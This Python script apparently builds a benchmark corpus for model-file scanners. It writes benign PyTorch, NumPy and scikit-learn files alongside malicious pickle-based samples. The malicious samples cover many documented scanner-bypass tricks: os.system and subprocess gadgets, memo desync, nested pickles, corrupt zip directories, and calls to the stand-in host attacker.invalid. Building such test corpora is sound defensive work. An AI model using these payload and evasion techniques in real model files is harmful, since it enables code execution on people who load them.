#!/usr/bin/env python3
"""Write the model-scanner benchmark corpus: malicious samples for every documented technique we
know of, and benign files written by the real libraries (numpy, scikit-learn/joblib, torch, keras,
gguf, safetensors, onnx).

NOTHING HERE LOADS A MALICIOUS SAMPLE. Payloads are built with __reduce__ classes (pickle only
records the callable's module and name) or by hand, opcode by opcode.

Usage: python gen_corpus.py OUT_DIR    (writes OUT_DIR/{malicious,benign}/... and OUT_DIR/manifest.json)

Technique sources (described from their public write-ups and test suites):
  picklescan tests/advisories (memo/STACK_GLOBAL confusion, parse-error bypasses, 7z/zip tricks,
  functools.partial, pkgutil.resolve_name, numpy.f2py, torch internals, uuid/_osx_support helpers),
  modelscan tests (os/posix/builtins/subprocess/socket payloads in pickle, npy, pytorch, h5, keras Lambda),
  fickling tests (INST/OBJ/NEWOBJ/BUILD-based calls, nested pickles, polyglots),
  JFrog/Sonatype/ReversingLabs 2025 bypass write-ups (importlib + inspect.getattr_static,
  broken-zip "nullifAI" PyTorch files, 7z, appended pickles), CVE-2024-34359 (GGUF Jinja SSTI).
"""
import base64
import datetime
import decimal
import fractions
import gzip
import io
import json
import marshal
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections import Counter, OrderedDict, defaultdict, deque

os.environ.setdefault("KERAS_BACKEND", "torch")

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(__file__), "corpus")
MANIFEST = []


def put(label, name, data, technique, source):
    path = os.path.join(OUT, label, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    MANIFEST.append({"file": f"{label}/{name}", "label": label, "technique": technique, "source": source})


# ---------------------------------------------------------------------------------------------
# helpers to build pickles by hand
# ---------------------------------------------------------------------------------------------

def su(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def binu(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def glob0(mod, name):
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def p2(body):
    return b"\x80\x02" + body + b"."


def p4(body):
    return b"\x80\x04" + body + b"."


CMD = "echo pwned > /tmp/rampart-bench-pwned"


class R:
    """An object whose pickle calls fn(*args) on load."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def dumps_ref(module, qualname, args, protocol=4):
    """Pickle of `module.qualname(*args)` without importing module (hand-assembled)."""
    body = b""
    if protocol >= 4:
        body += su(module) + su(qualname) + b"\x93"
    else:
        body += glob0(module, qualname)
    body += arg_tuple(args, protocol)
    body += b"R"
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + body + b"."


def arg(a, protocol):
    if isinstance(a, str):
        return binu(a) if protocol >= 1 else b"V" + a.encode("raw_unicode_escape") + b"\n"
    if isinstance(a, bytes):
        return b"C" + bytes([len(a)]) + a if len(a) < 256 else b"B" + struct.pack("<I", len(a)) + a
    if isinstance(a, int):
        return b"I" + str(a).encode() + b"\n"
    if a is None:
        return b"N"
    raise TypeError(a)


def arg_tuple(args, protocol):
    return b"(" + b"".join(arg(a, protocol) for a in args) + b"t"


# ---------------------------------------------------------------------------------------------
# malicious: raw pickles
# ---------------------------------------------------------------------------------------------

def malicious_pickles():
    src = "modelscan/picklescan test suites (os.system via __reduce__)"
    for proto in range(0, 6):
        put("malicious", f"pickle/reduce_os_system_p{proto}.pkl", pickle.dumps(R(os.system, CMD), protocol=proto),
            f"__reduce__ -> posix.system, protocol {proto}", src)
    put("malicious", "pickle/builtins_eval.pkl", pickle.dumps(R(eval, "__import__('os').system('id')"), protocol=2),
        "builtins.eval", "modelscan tests")
    put("malicious", "pickle/builtins_exec.pkl", pickle.dumps(R(exec, "import os; os.system('id')"), protocol=4),
        "builtins.exec", "modelscan tests")
    put("malicious", "pickle/builtin_p0_eval.pkl", b"c__builtin__\neval\n(S'1+1'\ntR.",
        "__builtin__.eval (protocol 0 compat name)", "picklescan tests")
    put("malicious", "pickle/compile_exec.pkl",
        p2(glob0("builtins", "exec") + glob0("builtins", "compile") + b"(" + binu("import os\nos.system('id')") + binu("<x>") + binu("exec") + b"tR\x85R"),
        "builtins.compile + exec", "fickling tests")
    put("malicious", "pickle/import_getattr.pkl",
        p2(glob0("builtins", "getattr") + b"(" + glob0("builtins", "__import__") + b"(" + binu("os") + b"tR" + binu("system") + b"tR(" + binu(CMD) + b"tR"),
        "getattr(__import__('os'), 'system')(cmd)", "fickling tests")
    refs = [
        ("subprocess", "Popen", (["/bin/sh", "-c", CMD],), "subprocess.Popen"),
        ("subprocess", "check_output", ("id",), "subprocess.check_output"),
        ("os", "popen", ("id",), "os.popen"),
        ("pty", "spawn", ("/bin/sh",), "pty.spawn"),
        ("runpy", "_run_code", ("import os;os.system('id')", {}), "runpy._run_code"),
        ("webbrowser", "open", ("http://attacker.invalid/",), "webbrowser.open"),
        ("socket", "create_connection", (("attacker.invalid", 4444),), "socket.create_connection"),
        ("shutil", "rmtree", ("/tmp/victim",), "shutil.rmtree"),
        ("code", "InteractiveInterpreter.runcode", ("import os",), "code.InteractiveInterpreter.runcode (dotted)"),
        ("timeit", "timeit", ("__import__('os').system('id')",), "timeit.timeit executes a string"),
        ("cProfile", "run", ("__import__('os').system('id')",), "cProfile.run"),
        ("pdb", "run", ("__import__('os').system('id')",), "pdb.run"),
        ("pip", "main", (["install", "evil"],), "pip.main"),
        ("importlib", "import_module", ("os",), "importlib.import_module"),
        ("operator", "attrgetter", ("system",), "operator.attrgetter"),
        ("functools", "partial", ("x",), "functools.partial"),
        ("pkgutil", "resolve_name", ("os:system",), "pkgutil.resolve_name (picklescan advisory)"),
        ("pydoc", "locate", ("os.system",), "pydoc.locate"),
        ("numpy.testing._private.utils", "runstring", ("import os; os.system('id')", {}), "numpy runstring = exec (picklescan advisory)"),
        ("numpy.f2py.crackfortran", "getlincoef", ("__import__('os').system('id')", {}), "numpy.f2py eval gadget (picklescan advisory)"),
        ("torch.serialization", "load", ("/tmp/other.pt",), "torch.serialization.load of another file"),
        ("torch", "load", ("/tmp/other.pt",), "torch.load"),
        ("ctypes", "CDLL", ("/tmp/evil.so",), "ctypes.CDLL loads a library"),
        ("_io", "FileIO", ("/etc/passwd",), "_io.FileIO reads files (picklescan advisory)"),
        ("logging", "FileHandler", ("/tmp/clobber",), "logging.FileHandler writes files (picklescan advisory)"),
        ("uuid", "_get_command_stdout", ("sh", "-c", CMD), "uuid._get_command_stdout (picklescan advisory)"),
        ("_osx_support", "_read_output", (CMD,), "_osx_support._read_output (picklescan advisory)"),
        ("doctest", "debug_script", ("import os; os.system('id')",), "doctest.debug_script"),
        ("asyncio.subprocess", "create_subprocess_shell", (CMD,), "asyncio subprocess"),
        ("multiprocessing.util", "spawnv_passfds", ("/bin/sh", ["sh", "-c", CMD], ()), "multiprocessing spawnv_passfds"),
        ("types", "CodeType", (0,), "types.CodeType (code object construction)"),
        ("sys", "exit", (1,), "sys.exit"),
        ("tempfile", "mkstemp", (), "tempfile (filesystem writes)"),
        ("torch.utils.collect_env", "run", (CMD,), "torch.utils.collect_env.run (picklescan advisory)"),
        ("torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", CMD]), "torch._inductor compile_file (picklescan advisory)"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", ("import os", {}, {}), "torch execWrapper (picklescan advisory)"),
        ("idlelib.pyshell", "ModifiedInterpreter.runcode", ("import os",), "idlelib runcode (picklescan advisory)"),
        ("cloudpickle.cloudpickle", "subimport", ("os",), "cloudpickle.subimport"),
        ("dill._dill", "_create_function", (), "dill function reconstruction"),
        ("requests.api", "get", ("http://attacker.invalid/",), "requests.get exfiltration"),
        ("urllib.request", "urlopen", ("http://attacker.invalid/",), "urllib.request.urlopen"),
        ("ssl", "get_server_certificate", (("attacker.invalid", 443),), "ssl DNS exfil (picklescan advisory)"),
        ("antigravity", "fly", (), "unknown module with import side effects"),
        ("evil_pkg.payload", "run", (), "unknown third-party module"),
        ("__main__", "Exploit", (), "__main__ class (unknown)"),
        ("_pickle", "loads", (b"\x80\x04N.",), "_pickle.loads"),
        ("glob", "glob", ("/root/*",), "glob directory listing"),
        ("zipfile", "ZipFile", ("/tmp/x.zip", "w"), "zipfile writes"),
    ]
    for i, (m, q, a, tech) in enumerate(refs):
        try:
            data = dumps_ref(m, q, a if all(isinstance(x, (str, bytes, int, type(None))) for x in a) else (repr(a),), protocol=4)
        except TypeError:
            data = dumps_ref(m, q, (repr(a),), protocol=4)
        put("malicious", f"pickle/global_{i:02d}_{m.replace('.', '_')}_{q.replace('.', '_')}.pkl", data, tech, "picklescan/modelscan/fickling lists and advisories")

    # importlib + inspect.getattr_static bypass (2025): no os.system global at all.
    body = (su("inspect") + su("getattr_static") + b"\x93" + b"(" + su("importlib") + su("import_module") + b"\x93"
            + b"(" + su("os") + b"tR" + su("system") + b"tR" + b"(" + binu(CMD) + b"tR")
    put("malicious", "pickle/importlib_getattr_static.pkl", p4(body),
        "importlib.import_module + inspect.getattr_static (2025 bypass)", "published picklescan bypass")

    # memo-hidden imports: the module/name strings are memoised far away and fetched by BINGET.
    body = (su("os") + b"q\x00" + b"0" + su("system") + b"q\x01" + b"0" + su("decoy") + b"q\x02" + b"0"
            + b"h\x00h\x01\x93(" + binu(CMD) + b"tR")
    put("malicious", "pickle/memo_hidden_stack_global.pkl", p4(body), "STACK_GLOBAL fed from memo via BINGET", "picklescan memo bypass")
    # MEMOIZE stores at len(memo), not at a count of MEMOIZE opcodes: after a PUT to key 0 the
    # memoised "os"/"system" land at 1 and 2; a scanner counting MEMOIZEs resolves the wrong strings.
    body = (su("builtins") + b"q\x00" + b"0" + su("os") + b"\x94" + b"0" + su("system") + b"\x94" + b"0"
            + b"h\x01h\x02\x93(" + binu(CMD) + b"tR")
    put("malicious", "pickle/memoize_after_put.pkl", p4(body), "MEMOIZE index = len(memo) after an explicit PUT (scanner memo desync)", "picklescan memo bypass")
    # protocol 0 PUT/GET with decimal keys
    body = b"S'os'\np10\n0S'system'\np20\n0g10\ng20\n\x93(S'id'\ntR"
    put("malicious", "pickle/p0_put_get_stack_global.pkl", b"\x80\x04" + body + b".", "PUT/GET decimal memo keys feeding STACK_GLOBAL", "own")
    # escaped strings feeding STACK_GLOBAL
    put("malicious", "pickle/escaped_strings.pkl", b"\x80\x04S'\\x6fs'\nS'sys\\x74em'\n\x93S'id'\n\x85R.",
        "STRING escapes hide the module name", "own")
    put("malicious", "pickle/unicode_escape.pkl", b"\x80\x04V\\u006fs\nV\\u0073ystem\n\x93V\\u0069d\n\x85R.",
        "raw-unicode-escape hides the module name", "own")
    # INST / OBJ / NEWOBJ / NEWOBJ_EX / BUILD
    put("malicious", "pickle/inst.pkl", b"(S'" + CMD.encode() + b"'\nios\nsystem\n.", "INST opcode", "fickling tests")
    put("malicious", "pickle/obj.pkl", b"\x80\x01(cos\nsystem\nX" + struct.pack("<I", len(CMD)) + CMD.encode() + b"o.", "OBJ opcode", "fickling tests")
    put("malicious", "pickle/newobj.pkl", p2(glob0("subprocess", "Popen") + b"(" + binu("/bin/sh") + binu("-c") + binu(CMD) + b"l\x85\x81"),
        "NEWOBJ on subprocess.Popen", "own")
    put("malicious", "pickle/newobj_ex.pkl", p4(su("subprocess") + su("Popen") + b"\x93" + b"(" + b"(" + binu("sh") + binu("-c") + binu(CMD) + b"l" + b"t}" + b"\x92"),
        "NEWOBJ_EX on subprocess.Popen", "own")
    # BUILD gadget: set __setstate__ on an instance to os.system, then BUILD calls it.
    body = (glob0("collections", "OrderedDict") + b")R" + b"N}" + binu("__setstate__") + glob0("os", "system") + b"s\x86b" + binu(CMD) + b"b")
    put("malicious", "pickle/build_setstate.pkl", p2(body), "BUILD sets __setstate__ = os.system, next BUILD calls it", "fickling tests")
    # dotted-name resolution (protocol 4 getattribute): torch + serialization.load, builtins + getattr via object.__subclasses__
    put("malicious", "pickle/dotted_torch_load.pkl", p4(su("torch") + su("serialization.load") + b"\x93(" + binu("/tmp/x.pt") + b"tR"),
        "dotted name torch.serialization.load", "picklescan advisory")
    put("malicious", "pickle/dunder_subclasses.pkl", p4(su("builtins") + su("object.__subclasses__") + b"\x93)R"),
        "dunder traversal builtins.object.__subclasses__", "own")
    put("malicious", "pickle/collections_dunder_globals.pkl", p4(su("collections") + su("OrderedDict.__init__.__globals__") + b"\x93"),
        "allowlisted class + dunder path to __globals__", "own")
    # parse-error tricks
    put("malicious", "pickle/payload_then_bad_opcode.pkl", pickle.dumps(R(os.system, CMD), protocol=2)[:-1] + b"\xff\xff",
        "payload executes, then invalid opcode (scanner parse error)", "picklescan parse-error bypass")
    put("malicious", "pickle/payload_truncated.pkl", pickle.dumps(R(os.system, CMD), protocol=4)[:-1],
        "payload executes, STOP missing (truncated)", "picklescan parse-error bypass")
    put("malicious", "pickle/bad_first_opcode_p0.pkl", b"cos\nsystem\n(S'id'\ntR\x00garbage",
        "protocol-0 payload then garbage", "picklescan parse-error bypass")
    put("malicious", "pickle/benign_then_malicious.pkl", pickle.dumps({"a": 1}, protocol=4) + pickle.dumps(R(os.system, CMD), protocol=4),
        "second pickle in the stream carries the payload", "picklescan multiple-pickle handling")
    put("malicious", "pickle/frame_lie.pkl", b"\x80\x04\x95\xff\x00\x00\x00\x00\x00\x00\x00" + pickle.dumps(R(os.system, CMD), protocol=2)[2:],
        "FRAME length larger than the data", "own")
    # nested pickles
    inner = pickle.dumps(R(os.system, CMD), protocol=2)
    put("malicious", "pickle/nested_torch_load_from_bytes.pkl", p2(glob0("torch.storage", "_load_from_bytes") + b"(" + arg(inner, 3) + b"tR"),
        "nested pickle through torch.storage._load_from_bytes (allowlisted loader)", "fickling nested-pickle tests")
    put("malicious", "pickle/nested_pickle_loads.pkl", p2(glob0("pickle", "loads") + b"(" + arg(inner, 3) + b"tR"),
        "pickle.loads of embedded bytes", "fickling tests")
    inner2 = p2(glob0("torch.storage", "_load_from_bytes") + b"(" + arg(inner, 3) + b"tR")
    put("malicious", "pickle/nested_twice.pkl", p2(glob0("torch.storage", "_load_from_bytes") + b"(" + arg(inner2, 3) + b"tR"),
        "pickle nested twice", "own")
    # EXT opcode (copyreg extension registry)
    put("malicious", "pickle/ext_code.pkl", b"\x80\x02\x82\x07(S'id'\ntR.", "EXT1 import through copyreg registry", "own")
    # dynamic STACK_GLOBAL (module name computed by a call)
    put("malicious", "pickle/dynamic_stack_global.pkl",
        p4(su("builtins") + su("str") + b"\x93(" + su("os") + b"tR" + su("system") + b"\x93(" + binu(CMD) + b"tR"),
        "STACK_GLOBAL on a computed string", "own")
    # payload after deep nesting (recursion-crash evasion)
    deep = b"\x80\x02" + b"]" * 50000 + b"a" * 49999 + b"0" + glob0("os", "system") + b"(" + binu(CMD) + b"tR."
    put("malicious", "pickle/deep_nesting_then_payload.pkl", deep, "50k nested lists before the payload", "own")
    # 7z / zip tricks live below; a plain zip with a pickle member:
    zb = io.BytesIO()
    with zipfile.ZipFile(zb, "w") as z:
        z.writestr("model.pkl", pickle.dumps(R(os.system, CMD), protocol=4))
    put("malicious", "pickle/zipped_pickle.zip", zb.getvalue(), "pickle inside a plain zip", "picklescan tests")


# ---------------------------------------------------------------------------------------------
# PyTorch
# ---------------------------------------------------------------------------------------------

def torch_files():
    import torch
    import torch.nn as nn

    class Evil:
        def __reduce__(self):
            return os.system, (CMD,)

    b = io.BytesIO()
    torch.save({"state_dict": nn.Linear(4, 2).state_dict(), "hook": Evil()}, b)
    good_zip = b.getvalue()
    put("malicious", "torch/torch_save_reduce.pt", good_zip, "torch.save of a dict holding a __reduce__ payload", "modelscan tests")

    # rewrite the archive prefix
    def reprefix(data, new):
        zin = zipfile.ZipFile(io.BytesIO(data))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zo:
            for info in zin.infolist():
                n = info.filename.split("/", 1)
                zo.writestr(new + "/" + n[1] if len(n) > 1 else info.filename, zin.read(info))
        return out.getvalue()

    put("malicious", "torch/odd_prefix.pt", reprefix(good_zip, "totally_not_a_model"), "PyTorch zip with an unusual archive prefix", "own")

    # extra .pkl member
    zin = zipfile.ZipFile(io.BytesIO(torch_benign_state()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zo:
        for info in zin.infolist():
            zo.writestr(info.filename, zin.read(info))
        prefix = zin.infolist()[0].filename.split("/")[0]
        zo.writestr(prefix + "/extra.pkl", pickle.dumps(R(os.system, CMD), protocol=2))
    put("malicious", "torch/extra_pkl_member.pt", out.getvalue(), "second .pkl member in a PyTorch zip", "issue brief")

    # deflated data.pkl
    zin = zipfile.ZipFile(io.BytesIO(good_zip))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zo:
        for info in zin.infolist():
            zo.writestr(info.filename, zin.read(info))
    put("malicious", "torch/deflated_members.pt", out.getvalue(), "PyTorch zip with deflated members", "own")

    # data prepended (polyglot / self-extracting style)
    put("malicious", "torch/prefixed_zip.pt", b"\x00" * 4096 + good_zip, "zip with 4 KiB of data prepended", "own")

    # duplicate member names: first benign, second malicious
    benign_pkl = pickle.dumps({"weights": [1, 2, 3]}, protocol=2)
    evil_pkl = pickle.dumps(R(os.system, CMD), protocol=2)
    out = io.BytesIO()
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zo:
            zo.writestr("archive/data.pkl", benign_pkl)
            zo.writestr("archive/version", b"3\n")
            zo.writestr("archive/data.pkl", evil_pkl)
    put("malicious", "torch/duplicate_data_pkl.pt", out.getvalue(), "duplicate data.pkl entries (readers disagree)", "own")

    # "nullifAI"-style broken zip: local header ok, central directory corrupt
    broken = bytearray(good_zip)
    i = broken.rfind(b"PK\x05\x06")
    broken[i:i + 4] = b"PK\x00\x00"
    put("malicious", "torch/broken_central_directory.pt", bytes(broken), "corrupt central directory (scanner zip error)", "2025 broken-zip bypass write-ups")

    # legacy (non-zip) torch.save
    b = io.BytesIO()
    torch.save({"w": torch.ones(3), "hook": Evil()}, b, _use_new_zipfile_serialization=False)
    put("malicious", "torch/legacy_stacked.pt", b.getvalue(), "legacy stacked torch.save format", "modelscan tests")

    # legacy tar format (pre-1.0): sys_info, pickle, storages, tensors members
    tb = io.BytesIO()
    with tarfile.open(fileobj=tb, mode="w", format=tarfile.USTAR_FORMAT) as t:
        def add(name, data):
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            t.addfile(ti, io.BytesIO(data))
        add("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 8}}, protocol=2))
        add("pickle", pickle.dumps(R(os.system, CMD), protocol=2))
        add("storages", pickle.dumps(0, protocol=2))
        add("tensors", pickle.dumps(0, protocol=2))
    put("malicious", "torch/legacy_tar.pt", tb.getvalue(), "legacy tar torch format", "own")

    # TorchScript with a malicious constants.pkl
    m = torch.jit.script(nn.Linear(3, 2))
    b = io.BytesIO()
    torch.jit.save(m, b)
    ts = b.getvalue()
    zin = zipfile.ZipFile(io.BytesIO(ts))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zo:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.endswith("constants.pkl"):
                data = pickle.dumps(R(os.system, CMD), protocol=2)
            zo.writestr(info.filename, data)
    put("malicious", "torch/torchscript_constants.pt", out.getvalue(), "TorchScript archive with a malicious constants.pkl", "own")
    zin = zipfile.ZipFile(io.BytesIO(ts))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zo:
        for info in zin.infolist():
            data = zin.read(info)
            if "/code/" in info.filename and info.filename.endswith(".py"):
                data = data + b"\ndef _x(self):\n    __import__('os').system('id')\n"
            zo.writestr(info.filename, data)
    put("malicious", "torch/torchscript_code.pt", out.getvalue(), "TorchScript code calling __import__", "own")


def torch_benign_state():
    import torch
    import torch.nn as nn
    b = io.BytesIO()
    torch.save(nn.Linear(4, 2).state_dict(), b)
    return b.getvalue()


def torch_benign():
    import torch
    import torch.nn as nn
    torch.manual_seed(0)
    src = "torch.save / torch.jit.save (torch %s)" % torch.__version__
    mlp = nn.Sequential(nn.Linear(64, 128), nn.ReLU(), nn.Linear(128, 10))
    conv = nn.Sequential(nn.Conv2d(3, 16, 3), nn.BatchNorm2d(16), nn.ReLU(), nn.MaxPool2d(2), nn.Flatten(), nn.Linear(16 * 15 * 15, 10))
    b = io.BytesIO(); torch.save(mlp.state_dict(), b); put("benign", "torch/mlp_state_dict.pt", b.getvalue(), "state_dict", src)
    b = io.BytesIO(); torch.save(conv.state_dict(), b); put("benign", "torch/conv_state_dict.pth", b.getvalue(), "state_dict with BatchNorm buffers", src)
    b = io.BytesIO(); torch.save(mlp, b); put("benign", "torch/mlp_full_model.pt", b.getvalue(), "full nn.Module pickle", src)
    opt = torch.optim.Adam(mlp.parameters())
    mlp(torch.randn(2, 64)).sum().backward(); opt.step()
    sched = torch.optim.lr_scheduler.StepLR(opt, 10)
    ck = {"epoch": 3, "model": mlp.state_dict(), "optimizer": opt.state_dict(), "scheduler": sched.state_dict(), "loss": 0.25,
          "rng": torch.get_rng_state(), "meta": OrderedDict(a=1), "when": datetime.datetime(2024, 1, 2)}
    b = io.BytesIO(); torch.save(ck, b); put("benign", "torch/checkpoint.ckpt", b.getvalue(), "training checkpoint", src)
    tensors = {"f16": torch.randn(8).half(), "bf16": torch.randn(8).bfloat16(), "i64": torch.arange(10), "bool": torch.ones(3, dtype=torch.bool),
               "u8": torch.zeros(4, dtype=torch.uint8), "c64": torch.randn(2, dtype=torch.complex64), "param": nn.Parameter(torch.randn(3)),
               "size": torch.Size([2, 3]), "dtype": torch.float32, "device": torch.device("cpu"),
               "sparse": torch.randn(4, 4).to_sparse(), "q": torch.quantize_per_tensor(torch.randn(4), 0.1, 0, torch.quint8)}
    b = io.BytesIO(); torch.save(tensors, b); put("benign", "torch/tensor_zoo.pt", b.getvalue(), "tensors of many dtypes, sparse, quantized", src)
    b = io.BytesIO(); torch.save(mlp.state_dict(), b, _use_new_zipfile_serialization=False)
    put("benign", "torch/legacy_state_dict.pt", b.getvalue(), "legacy (non-zip) torch.save", src)
    b = io.BytesIO(); torch.save(mlp, b, _use_new_zipfile_serialization=False)
    put("benign", "torch/legacy_full_model.bin", b.getvalue(), "legacy full model", src)
    b = io.BytesIO(); torch.jit.save(torch.jit.script(mlp), b); put("benign", "torch/mlp_torchscript.pt", b.getvalue(), "TorchScript (script)", src)
    b = io.BytesIO(); torch.jit.save(torch.jit.trace(conv.eval(), torch.randn(1, 3, 32, 32)), b)
    put("benign", "torch/conv_torchscript_trace.pt", b.getvalue(), "TorchScript (trace)", src)
    big = nn.Sequential(*[nn.Linear(1024, 1024) for _ in range(12)])
    b = io.BytesIO(); torch.save(big.state_dict(), b); put("benign", "torch/big_state_dict.bin", b.getvalue(), "50 MB state_dict (throughput)", src)
    from safetensors.torch import save as st_save
    put("benign", "safetensors/mlp.safetensors", st_save({k: v.contiguous() for k, v in mlp.state_dict().items()}), "safetensors.torch.save", "safetensors")
    put("benign", "safetensors/big.safetensors", st_save({k: v.contiguous() for k, v in big.state_dict().items()}, metadata={"format": "pt"}),
        "50 MB safetensors", "safetensors")
    # ONNX export needs onnxscript in recent torch; ONNX benign files are made with onnx.helper below.


# ---------------------------------------------------------------------------------------------
# NumPy, scikit-learn, joblib
# ---------------------------------------------------------------------------------------------

def numpy_sklearn():
    import numpy as np
    import joblib
    rng = np.random.default_rng(0)
    src = "numpy %s" % np.__version__
    for dt in ["float32", "float64", "int8", "int64", "uint16", "complex128", "bool", "<U7", "datetime64[s]"]:
        a = rng.integers(0, 100, size=(16, 8)).astype(dt)
        b = io.BytesIO(); np.save(b, a); put("benign", f"numpy/array_{dt.replace('<', '').replace('[', '_').replace(']', '')}.npy", b.getvalue(), "np.save", src)
    rec = np.zeros(4, dtype=[("x", "f4"), ("O", "i8")])
    b = io.BytesIO(); np.save(b, rec); put("benign", "numpy/structured_field_named_O.npy", b.getvalue(), "structured dtype with a field named O", src)
    b = io.BytesIO(); np.save(b, np.array([1, "two", {"three": 3}, [4.0], None], dtype=object), allow_pickle=True)
    put("benign", "numpy/object_array.npy", b.getvalue(), "object array of plain Python values", src)
    b = io.BytesIO(); np.savez(b, a=np.arange(10), b=np.ones((3, 3))); put("benign", "numpy/arrays.npz", b.getvalue(), "np.savez", src)
    b = io.BytesIO(); np.savez_compressed(b, a=np.arange(1000), o=np.array([{"k": 1}], dtype=object))
    put("benign", "numpy/compressed_with_object.npz", b.getvalue(), "np.savez_compressed incl. object array", src)
    b = io.BytesIO(); np.save(b, rng.standard_normal((4096, 4096), dtype=np.float32)); put("benign", "numpy/big.npy", b.getvalue(), "64 MB array (throughput)", src)
    # malicious numpy
    b = io.BytesIO(); np.save(b, np.array([R(os.system, CMD)], dtype=object), allow_pickle=True)
    put("malicious", "numpy/object_array_payload.npy", b.getvalue(), "object-dtype .npy with a payload", "modelscan tests")
    b = io.BytesIO(); np.savez(b, ok=np.arange(3), evil=np.array([R(os.system, CMD)], dtype=object))
    put("malicious", "numpy/npz_member_payload.npz", b.getvalue(), "payload in one .npz member", "picklescan tests")
    b = io.BytesIO(); np.save(b, np.array([(1.0, R(os.system, CMD))], dtype=[("x", "f8"), ("y", "O")]), allow_pickle=True)
    put("malicious", "numpy/structured_object_field.npy", b.getvalue(), "object field in a structured dtype", "own")

    from sklearn.datasets import make_classification
    from sklearn.ensemble import GradientBoostingClassifier, IsolationForest, RandomForestClassifier
    from sklearn.cluster import KMeans
    from sklearn.decomposition import PCA
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.naive_bayes import MultinomialNB
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier
    import sklearn
    X, y = make_classification(n_samples=300, n_features=12, random_state=0)
    texts = ["the cat sat", "a dog ran", "cats and dogs", "model files are code"] * 10
    models = {
        "logreg": LogisticRegression(max_iter=200).fit(X, y),
        "forest": RandomForestClassifier(n_estimators=30, random_state=0).fit(X, y),
        "gbm": GradientBoostingClassifier(n_estimators=20).fit(X, y),
        "tree": DecisionTreeClassifier().fit(X, y),
        "kmeans": KMeans(n_clusters=3, n_init=2, random_state=0).fit(X),
        "pca": PCA(4).fit(X),
        "knn_kdtree": KNeighborsClassifier(algorithm="kd_tree").fit(X, y),
        "mlp": MLPClassifier(max_iter=50, random_state=0).fit(X, y),
        "iforest": IsolationForest(n_estimators=20, random_state=0).fit(X),
        "svc_pipeline": make_pipeline(StandardScaler(), SVC()).fit(X, y),
        "tfidf_nb": make_pipeline(TfidfVectorizer(), MultinomialNB()).fit(texts, [0, 1, 1, 0] * 10),
        "onehot": OneHotEncoder().fit([["a"], ["b"], ["c"]]),
    }
    src = "scikit-learn %s / joblib %s" % (sklearn.__version__, joblib.__version__)
    for name, m in models.items():
        put("benign", f"sklearn/{name}.pkl", pickle.dumps(m, protocol=pickle.HIGHEST_PROTOCOL), "pickle.dump of a fitted estimator", src)
        b = io.BytesIO(); joblib.dump(m, b); put("benign", f"sklearn/{name}.joblib", b.getvalue(), "joblib.dump", src)
    for comp in ["zlib", "gzip"]:
        p = os.path.join(OUT, "tmp." + comp)
        joblib.dump(models["forest"], p, compress=(comp, 3))
        put("benign", f"sklearn/forest_{comp}.joblib", open(p, "rb").read(), f"joblib.dump compress={comp}", src)
        os.remove(p)
        joblib.dump({"model": models["logreg"], "evil": R(os.system, CMD)}, p, compress=(comp, 3))
        put("malicious", f"joblib/payload_{comp}.joblib", open(p, "rb").read(), f"compressed ({comp}) joblib payload", "own")
        os.remove(p)
    b = io.BytesIO(); joblib.dump({"model": models["forest"], "evil": R(os.system, CMD)}, b)
    put("malicious", "joblib/payload_after_arrays.joblib", b.getvalue(), "joblib with inline arrays then a payload", "modelscan tests")
    b = io.BytesIO(); joblib.dump({"a": np.array([R(os.system, CMD)], dtype=object)}, b)
    put("malicious", "joblib/object_array_nested.joblib", b.getvalue(), "payload inside a joblib object array (nested pickle)", "own")
    # plain data pickles
    data = {"ints": list(range(100)), "s": "text", "b": b"bytes", "f": 1.5, "c": 2j, "set": {1, 2}, "fs": frozenset([3]),
            "od": OrderedDict(a=1), "dd": defaultdict(list, a=[1]), "dq": deque([1, 2]), "cnt": Counter("abc"),
            "dt": datetime.datetime(2024, 5, 6, 7, 8, 9), "d": datetime.date(2024, 1, 1), "td": datetime.timedelta(3),
            "dec": decimal.Decimal("1.5"), "fr": fractions.Fraction(1, 3), "tuple": (1, (2, 3)), "none": None, "bool": True}
    for proto in range(0, 6):
        put("benign", f"pickle/plain_data_p{proto}.pkl", pickle.dumps(data, protocol=proto), f"plain Python data, protocol {proto}", "pickle stdlib")
    put("benign", "pickle/numpy_arrays_p2.pkl", pickle.dumps({"a": np.arange(5), "rs": np.random.RandomState(0), "gen": np.random.default_rng(1),
                                                                "s": np.float64(1.5)}, protocol=2), "numpy arrays, RNG state, scalars", src)
    big = {f"key{i}": (i, float(i), f"value-{i}") for i in range(300_000)}
    put("benign", "pickle/large_dict_p4.pkl", pickle.dumps(big, protocol=4), "300k-entry dict of tuples (walker throughput)", "pickle stdlib")
    put("benign", "pickle/large_list_p2.pkl", pickle.dumps([float(i) for i in range(1_000_000)], protocol=2), "1M floats, protocol 2", "pickle stdlib")
